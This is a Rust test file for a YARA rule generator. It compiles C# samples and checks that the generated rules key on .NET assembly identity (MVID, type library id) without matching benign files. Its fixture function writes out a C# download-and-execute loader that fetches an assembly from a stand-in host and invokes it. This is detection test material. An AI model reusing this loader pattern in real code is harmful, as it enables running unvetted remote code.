//! Rules for .NET assemblies use .NET facts: C# programs compiled with mono's `mcs` (Debian
//! `mono-mcs`; skipped with a note when absent unless `SPOOR_REQUIRE_MCS` is set) get rules
//! that import yara-x's `dotnet` module and name the assembly's MVID and type library id; the
//! rules compile, match their samples and no benign file (a benign assembly built the same
//! way, and the corpus benign set).

use super::corpus::on_path;
use spoor::goodware;
use spoor::rules::{self, RuleOptions};
use spoor::sample::{triage, Triage};
use std::path::{Path, PathBuf};

const TYPELIB: &str = "5e0d2b61-7a3c-4f19-9b84-2c6d0e1f3a57";

/// An inert C# program (it returns at once unless given six arguments) of one project: the
/// type library id is the project's, `variant` changes its literals.
fn malicious_source(variant: &str) -> String {
    format!(
        r#"
using System;
using System.Net;
using System.Reflection;
using System.Runtime.InteropServices;

[assembly: AssemblyVersion("3.1.0.0")]
[assembly: Guid("{TYPELIB}")]

namespace Quill.Courier {{
  public static class Beacon {{
    public static int Main(string[] args) {{
      if (args.Length != 6) return 0;
      var c = new WebClient();
      c.Headers.Add("X-Quill-Session", "quill-courier-{variant}-handshake");
      byte[] b = c.DownloadData("http://{variant}.quill.example.net/courier/next");
      Assembly.Load(b).EntryPoint.Invoke(null, null);
      Console.WriteLine("courier {variant} finished its round");
      return b.Length;
    }}
  }}
}}
"#
    )
}

const BENIGN_SOURCE: &str = r#"
using System;
using System.IO;
using System.Runtime.InteropServices;

[assembly: Guid("0b7d4c2e-91a8-4e36-a5f0-7c3b9d12e648")]

namespace Tidy.Notes {
  public static class Program {
    public static int Main(string[] args) {
      foreach (var a in args) Console.WriteLine("note: " + a);
      Console.WriteLine("Usage: tidy-notes FILE...");
      return args.Length > 0 && File.Exists(args[0]) ? 0 : 1;
    }
  }
}
"#;

/// Compiles `source` into `dir/name.exe` with mono's `mcs`.
pub(crate) fn mcs(dir: &Path, name: &str, source: &str) -> PathBuf {
    let src = dir.join(format!("{name}.cs"));
    let exe = dir.join(format!("{name}.exe"));
    std::fs::write(&src, source).expect("write source");
    let out = std::process::Command::new("mcs")
        .arg(format!("-out:{}", exe.display()))
        .arg(&src)
        .output()
        .expect("mcs runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    exe
}

fn compile(source: &str) -> yara_x::Rules {
    let mut c = yara_x::Compiler::new();
    c.add_source(source)
        .unwrap_or_else(|e| panic!("{e}\n{source}"));
    c.build()
}

fn matching(rules: &yara_x::Rules, data: &[u8]) -> Vec<String> {
    let mut scanner = yara_x::Scanner::new(rules);
    let results = scanner.scan(data).expect("scan");
    results
        .matching_rules()
        .map(|r| r.identifier().to_string())
        .collect()
}

fn corpus_benign() -> Vec<(String, Vec<u8>)> {
    walkdir::WalkDir::new(Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus/benign"))
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            (
                e.path().display().to_string(),
                std::fs::read(e.path()).expect("benign file"),
            )
        })
        .collect()
}

#[test]
fn dotnet_rules_use_the_assembly_identity() {
    if !on_path("mcs") {
        assert!(
            std::env::var_os("SPOOR_REQUIRE_MCS").is_none(),
            "SPOOR_REQUIRE_MCS is set but mcs is not on PATH"
        );
        eprintln!("note: mcs (Debian mono-mcs) is not on PATH; skipping the .NET rules");
        return;
    }
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("dotnet-rules");
    std::fs::create_dir_all(&dir).expect("dir");
    let built: Vec<(PathBuf, Vec<u8>)> = ["alpha", "bravo", "charlie"]
        .iter()
        .map(|v| {
            let exe = mcs(&dir, &format!("courier-{v}"), &malicious_source(v));
            let data = std::fs::read(&exe).expect("assembly");
            (exe, data)
        })
        .collect();
    let benign_exe = mcs(&dir, "tidy-notes", BENIGN_SOURCE);
    let benign_data = std::fs::read(&benign_exe).expect("benign assembly");
    let samples: Vec<Triage> = built
        .iter()
        .map(|(p, d)| triage(&p.display().to_string(), d))
        .collect();
    let mvids: Vec<String> = samples
        .iter()
        .map(|t| {
            let net = t.pe.as_ref().and_then(|p| p.dotnet.as_ref()).expect(".NET");
            assert_eq!(net.typelib.as_deref(), Some(TYPELIB));
            net.mvid.clone().expect("MVID")
        })
        .collect();
    let index = goodware::default_index().expect("shipped index");
    let options = RuleOptions {
        date: "2026-12-05".into(),
        ..RuleOptions::default()
    };

    // One rule per sample: the .NET identity in the condition and meta.
    let per_sample = rules::generate(&samples, Some(&index), &options);
    assert_eq!(per_sample.rules.len(), 3, "{:?}", per_sample.warnings);
    for (rule, mvid) in per_sample.rules.iter().zip(&mvids) {
        let src = &rule.source;
        assert!(src.starts_with("import \"dotnet\"\n"), "{src}");
        assert!(
            src.contains(&format!("dotnet.guids[0] == \"{mvid}\"")),
            "{src}"
        );
        assert!(
            src.contains(&format!("dotnet.typelib == \"{TYPELIB}\"")),
            "{src}"
        );
        assert!(src.contains("dotnet_assembly = \"courier-"), "{src}");
        assert_eq!(rule.view.imports, ["dotnet"]);
    }
    // The whole file (an import line per rule) compiles; each rule matches its sample and
    // no benign file.
    let all = compile(&per_sample.text("dotnet rules"));
    for (rule, (_, data)) in per_sample.rules.iter().zip(&built) {
        assert!(matching(&all, data).contains(&rule.name), "{}", rule.name);
    }
    assert!(matching(&all, &benign_data).is_empty());
    for (name, data) in corpus_benign() {
        assert!(matching(&all, &data).is_empty(), "{name}");
    }

    // The .NET facts alone mean what they say in yara-x: the MVID picks its build and no
    // other, the type library id the project and not the benign assembly.
    let first = &per_sample.rules[0].view;
    let facts = compile(&format!(
        "import \"dotnet\"\nrule facts {{ condition: {} }}\nrule build {{ condition: dotnet.guids[0] == \"{}\" }}",
        first.module_condition, mvids[0]
    ));
    assert_eq!(matching(&facts, &built[0].1), ["facts", "build"]);
    assert_eq!(matching(&facts, &built[1].1), ["facts"]);
    assert!(matching(&facts, &benign_data).is_empty());

    // A family rule from two builds catches the third through the project's type library
    // id, whatever its strings.
    let family = rules::generate(
        &samples[..2],
        Some(&index),
        &RuleOptions {
            family: Some("Quill".into()),
            ..options.clone()
        },
    );
    let rule = family.rules.first().expect("family rule");
    assert!(rule.source.contains("dotnet.typelib"), "{}", rule.source);
    let compiled = compile(&rule.source);
    for (_, data) in &built {
        assert_eq!(matching(&compiled, data), std::slice::from_ref(&rule.name));
    }
    assert!(matching(&compiled, &benign_data).is_empty());

    // A family with a native sample gets no .NET clause: the fact would not hold for all.
    let native = corpus_benign()
        .into_iter()
        .find(|(n, d)| n.ends_with(".exe") && d.starts_with(b"MZ"))
        .map(|(n, d)| triage(&n, &d))
        .expect("a native PE in the corpus");
    let mixed = rules::generate(
        &[samples[0].clone(), native],
        None,
        &RuleOptions {
            family: Some("Mixed".into()),
            ..options.clone()
        },
    );
    for r in &mixed.rules {
        assert!(!r.source.contains("dotnet"), "{}", r.source);
    }
}

/// Native samples get no `dotnet` clause.
#[test]
fn native_samples_get_no_dotnet_clause() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus/malicious");
    let native: Vec<Triage> = walkdir::WalkDir::new(dir)
        .sort_by_file_name()
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .filter(|e| {
            e.path()
                .extension()
                .is_some_and(|x| x == "exe" || x == "dll")
        })
        .take(2)
        .map(|e| {
            triage(
                &e.path().display().to_string(),
                &std::fs::read(e.path()).expect("sample"),
            )
        })
        .collect();
    assert!(!native.is_empty());
    let index = goodware::default_index().expect("shipped index");
    let g = rules::generate(&native, Some(&index), &RuleOptions::default());
    assert!(!g.rules.is_empty());
    for r in &g.rules {
        assert!(r.view.imports.is_empty() && r.view.module_condition.is_empty());
        assert!(!r.source.contains("dotnet"), "{}", r.source);
    }
}
